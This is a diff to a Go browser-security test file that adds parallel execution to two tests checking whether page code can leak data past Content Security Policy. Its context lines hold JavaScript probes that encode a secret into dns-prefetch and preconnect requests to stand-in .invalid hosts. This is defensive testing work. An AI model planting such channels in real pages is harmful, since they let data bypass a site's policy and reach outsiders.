@@ -164,6 +164,7 @@ func judge(said string, s *stranger) outcome {
 
 // TestExfiltration lets code in the page try every way that we know to send something to a stranger, under the headers that every answer has.
 func TestExfiltration(t *testing.T) {
+	t.Parallel()
 	dir := variant(t, "assets/js/thumbs.mjs", "onmessage = ({ data }) => {", probe+"const unused = ({ data }) => {")
 	p := open(t, serve(t, dir), desktop)
 	var table strings.Builder
@@ -193,6 +194,7 @@ func TestExfiltration(t *testing.T) {
 // TestExfiltrationThatNoPolicyStops tries what CSP has no working directive for in Chromium, peer connections and look-ups of names, and shows that the
 // flags of a station (docs/security.md) stop both.
 func TestExfiltrationThatNoPolicyStops(t *testing.T) {
+	t.Parallel()
 	names := map[string]string{
 		"dns-prefetch": `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//secret-dns-prefetch.invalid"; document.head.append(l)`,
 		"preconnect":   `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "//secret-preconnect.invalid"; document.head.append(l)`,
